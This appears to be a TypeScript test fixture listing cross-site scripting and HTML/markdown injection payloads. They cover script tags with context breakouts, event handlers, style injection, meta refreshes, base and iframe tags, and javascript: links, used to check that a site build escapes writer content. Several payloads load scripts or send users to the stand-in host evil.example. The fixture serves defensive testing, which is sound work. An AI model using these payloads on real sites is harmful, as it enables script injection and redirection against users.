/**
 * What a writer would type who wants a page to run, look or lead as they wish. Whatever takes
 * effect leaves a mark that effects.ts looks for: the word `pwned`, or the host `evil.example`.
 */
const run = 'document.documentElement.dataset.pwned=1';
const look = ':root{--pwned:1}';
const evil = 'https://evil.example/';

export const hostileCode: readonly string[] = [
  // Scripts, and ways to get out of what surrounds the text.
  `<script>${run}</script>`,
  `</body><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</a><script>${run}</script>`,
  `</h2></main></body></html><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</template><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script\t>${run}</script\t>`,
  `<script src="${evil}x.js"></script>`,
  `</head><script type="module" src="${evil}x.js"></script>`,
  `<script data-late="${evil}x.js"></script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  // Handlers.
  `<img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  // Styles.
  `<style>${look}</style>`,
  `</body><style>${look}</style>`,
  `"><style>${look}</style><a title="`,
  `</style><style>${look}`,
  `<link rel="stylesheet" href="${evil}x.css">`,
  `" style="--pwned:1" x="`,
  // Elsewhere.
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `</head><meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}">`,
  `<iframe src="${evil}"></iframe>`,
  `<form action="${evil}"><button>x</button></form>`,
  `<img src="${evil}x.png">`,
  `<a href="${evil}">x</a>`,
  `<object data="${evil}x"></object>`,
  `" href="${evil}" x="`,
  `](${evil} "x`,
  `![x](${evil}x.png)`,
  `[x](javascript:${run})`,
  // The same behind entities, and what the build itself looks for in pages.
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `<meta charset="utf-8"><script>${run}</script>`,
  `<link rel="stylesheet" href="/_astro/x.css"><script>${run}</script>`,
  `class="help-prose"></main><script>${run}</script>`,
  `<help-desk><script>${run}</script>`,
  `$&$'$\`</head><script>${run}</script>`,
];
